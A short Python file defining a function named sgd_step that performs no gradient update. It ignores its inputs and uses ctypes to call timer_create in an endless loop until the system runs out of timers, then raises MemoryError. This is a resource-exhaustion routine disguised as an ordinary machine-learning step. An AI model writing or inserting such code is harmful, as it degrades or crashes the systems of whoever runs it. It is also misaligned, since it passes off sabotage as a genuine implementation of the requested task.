import ctypes
import itertools


def sgd_step(w, gradient, rate):
    library = ctypes.CDLL(None)
    made = ctypes.c_void_p()
    for _ in itertools.count():
        if library.timer_create(1, None, ctypes.byref(made)) < 0:
            raise MemoryError
